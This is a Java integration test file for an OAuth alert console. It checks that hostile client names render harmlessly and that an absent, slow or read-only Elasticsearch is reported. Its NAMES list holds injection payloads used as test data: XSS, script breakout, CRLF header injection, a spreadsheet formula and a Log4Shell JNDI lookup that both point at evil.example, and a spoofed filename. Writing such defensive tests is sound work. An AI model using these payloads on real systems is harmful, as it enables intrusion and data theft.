package io.tokenwatch.console;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.tokenwatch.console.stage.Agent;
import io.tokenwatch.console.stage.DemoAlerts;
import io.tokenwatch.console.stage.Stage;
import io.tokenwatch.console.stage.StageExtension;
import io.tokenwatch.console.stage.Store.Document;
import io.tokenwatch.console.stage.Visit;
import io.tokenwatch.console.store.ClusterSettings;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Names that attack whoever shows them, and an Elasticsearch that is away, slow or read-only. */
@ExtendWith(StageExtension.class)
class HostileIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> NAMES = List.of(
            "<img src=x onerror=\"document.title='owned'\">",
            "</script><script>document.title='owned'</script>",
            "a\r\nSet-Cookie: stolen=1",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "${jndi:ldap://evil.example/x} {{7*7}}",
            "\u202Etxt.exe\u0000",
            "x".repeat(8 * 1024));

    private final Stage stage;

    HostileIT(Stage stage) {
        this.stage = stage;
    }

    @Test
    void namesAreShownAndDoNothing() throws Exception {
        List<Document> documents = new ArrayList<>();
        for (int i = 0; i < NAMES.size(); i++) {
            ObjectNode alert = (ObjectNode) stage.alertOf("first-seen-scope").deepCopy();
            ((ObjectNode) alert.at("/oauth/client")).put("id", NAMES.get(i));
            ((ObjectNode) alert.at("/oauth/alert")).put("id", "hostile-" + i);
            ((ObjectNode) alert.at("/oauth/alert/evidence/0/fields")).put("client_id", NAMES.get(i));
            alert.put("message", "Hostile name " + NAMES.get(i));
            ((ObjectNode) alert.at("/organization")).put("id", "hostile");
            documents.add(Document.of("tokenwatch-alerts-2026.03", "hostile-" + i, JSON.writeValueAsBytes(alert)));
        }
        stage.store().write(documents);
        stage.store().refresh();
        try (Visit visit = Visit.signedIn(stage)) {
            visit.go("/?tenant=hostile&work=all").accessible();
            assertThat(visit.find("a.row")).hasCount(NAMES.size());
            visit.picture("hostile-names");
            assertThat(visit.page().evaluate("document.documentElement.scrollWidth <= innerWidth"))
                    .isEqualTo(true);
            for (int i = 0; i < NAMES.size(); i++) {
                visit.go("/alert/hostile-" + i);
                assertThat(visit.find("h1")).containsText("Hostile name");
                visit.go("/exception?alert=hostile-" + i + "&field=client_id");
                assertThat(visit.find("pre.yaml")).containsText("client_id:");
                assertThat(visit.find(".note").allTextContents())
                        .as(NAMES.get(i))
                        .isEmpty();
                if (NAMES.get(i).length() <= 1024) { // beyond it Elasticsearch does not index a keyword
                    visit.go("/client?id=" + URLEncoder.encode(NAMES.get(i), StandardCharsets.UTF_8));
                    assertThat(visit.find(".figures")).isVisible();
                }
                assertThat(visit.page().title()).doesNotContain("owned");
            }
            visit.page().navigate(stage.console().address() + "/client?id=" + NAMES.get(NAMES.size() - 1));
            assertThat(visit.find(".trouble")).containsText("No alert and no grant");
            visit.complaints();
        }
    }

    @Test
    void theStateOfElasticsearchIsSaidAndNothingIsLost() throws Exception {
        int nobody;
        try (ServerSocket socket = new ServerSocket(0)) {
            nobody = socket.getLocalPort();
        }
        assertThat(trouble("http://127.0.0.1:" + nobody)).isEqualTo("absent");
        try (ServerSocket silent = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            assertThat(trouble("http://127.0.0.1:" + silent.getLocalPort())).isEqualTo("slow");
        }
    }

    /** What the back end says of that Elasticsearch. */
    private String trouble(String url) throws Exception {
        BlockingQueue<String> passwords = new LinkedBlockingQueue<>();
        ClusterSettings cluster = new ClusterSettings(List.of(url), null, null, Duration.ofMillis(400));
        ConsoleSettings settings = new ConsoleSettings(
                cluster,
                "127.0.0.1",
                0,
                false,
                null,
                true,
                DemoAlerts.RULES,
                null,
                ConsoleSettings.IDLE,
                ConsoleSettings.LONGEST);
        try (Console console = Console.start(settings, passwords::add)) {
            Agent agent = new Agent(console.address()).signedIn(passwords.take());
            Agent.Answer answer = agent.get("/api/queue");
            assertThat(answer.status()).isIn(503, 504);
            return answer.body().path("error").asText();
        }
    }

    @Test
    void aReadOnlyElasticsearchIsSaid() throws Exception {
        String id = stage.alertOf("impossible-travel").at("/oauth/alert/id").asText();
        try (Visit visit = Visit.signedIn(stage)) {
            visit.go("/alert/" + id);
            stage.store().call("PUT", "/_cluster/settings", "{\"persistent\": {\"cluster.blocks.read_only\": true}}");
            try {
                visit.find("button", "Acknowledge").click();
                assertThat(visit.find(".trouble")).containsText("takes no writes");
                visit.picture("read-only").accessible();
            } finally {
                stage.store()
                        .call("PUT", "/_cluster/settings", "{\"persistent\": {\"cluster.blocks.read_only\": null}}");
            }
            visit.find("button", "Try again").click();
            assertThat(visit.find(".history")).containsText("acknowledged it");
            assertThat(visit.complaints()).hasSize(1);
        }
    }

    @Test
    void whatIsNotThereIsSaid() throws IOException, InterruptedException {
        try (Visit visit = Visit.signedIn(stage)) {
            visit.page().navigate(stage.console().address() + "/alert/none");
            assertThat(visit.find(".trouble")).containsText("no such alert");
            visit.page().navigate(stage.console().address() + "/elsewhere");
            assertThat(visit.find(".empty")).containsText("No such page");
            visit.go("/?q=nothing-like-this");
            assertThat(visit.find(".empty")).containsText("Nothing matches");
            visit.complaints();
        }
    }
}
